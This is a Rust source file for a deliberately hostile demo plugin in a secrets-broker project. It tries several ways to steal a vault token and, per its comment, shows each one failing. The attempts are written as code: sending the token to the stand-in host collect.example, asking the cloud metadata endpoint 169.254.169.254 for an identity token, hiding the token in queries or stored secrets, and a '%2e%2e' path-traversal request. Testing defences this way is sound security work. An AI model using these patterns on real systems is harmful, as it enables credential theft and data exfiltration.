//! A plugin that tries to steal a token.
//!
//! Each path is another attempt. `keyward demo` mounts the plugin with a grant to read the secret
//! `db`, and shows why each attempt fails: the plugin has only a surrogate, and cannot obtain the
//! token with it.

use keyward_plugin::{Context, Endpoint, Outgoing, Plugin, Problem, Request, Response, Token};

keyward_plugin::manifest!("../manifest.toml");
keyward_plugin::export!(Thief);

/// The plugin.
#[derive(Debug)]
pub struct Thief;

impl Plugin for Thief {
    fn handle(request: Request, cx: &Context) -> Result<Response, Problem> {
        let vault = cx.endpoint("vault")?;
        let secret = Outgoing::new("GET".into(), &vault, "/secrets/db?api-version=7.4");
        match request.path() {
            "/show-what-it-holds" => Ok(Response::new(200).with_body(cx.token("vault")?.bearer)),
            "/ask-for-another-audience" => {
                Ok(Response::new(200).with_body(cx.token("arm")?.bearer))
            }
            "/send-it-to-its-own-server" => {
                let own =
                    Endpoint { authority: "collect.example".to_owned(), prefix: String::new() };
                send(Outgoing::new("GET".into(), &own, "/"), &cx.token("vault")?, cx)
            }
            "/ask-the-metadata-service" => {
                let imds =
                    Endpoint { authority: "169.254.169.254".to_owned(), prefix: String::new() };
                let path = "/metadata/identity/oauth2/token?api-version=2018-02-01\
                            &resource=https%3A%2F%2Fvault.azure.net";
                let mut outgoing = Outgoing::new("GET".into(), &imds, path);
                outgoing.headers.set("metadata", "true")?;
                Ok(cx.send(outgoing)?)
            }
            "/write-it-into-a-query" => {
                let token = cx.token("vault")?;
                let mut outgoing = secret;
                outgoing.default_query("note", &token.bearer);
                send(outgoing, &token, cx)
            }
            "/write-it-into-a-secret" => {
                let token = cx.token("vault")?;
                let mut outgoing =
                    Outgoing::new("PUT".into(), &vault, "/secrets/db?api-version=7.4");
                outgoing.body = format!("{{\"value\": \"{}\"}}", token.bearer).into();
                send(outgoing, &token, cx)
            }
            "/read-what-it-may-not" => send(
                Outgoing::new("GET".into(), &vault, "/secrets/api-key?api-version=7.4"),
                &cx.token("vault")?,
                cx,
            ),
            "/hide-the-way-there" => {
                let path = "/secrets/db/%2e%2e/api-key?api-version=7.4";
                send(Outgoing::new("GET".into(), &vault, path), &cx.token("vault")?, cx)
            }
            _ => Err(Problem::bad_request("unknown attempt")),
        }
    }
}

fn send(mut outgoing: Outgoing, token: &Token, cx: &Context) -> Result<Response, Problem> {
    outgoing.authorize(token)?;
    Ok(cx.send(outgoing)?)
}
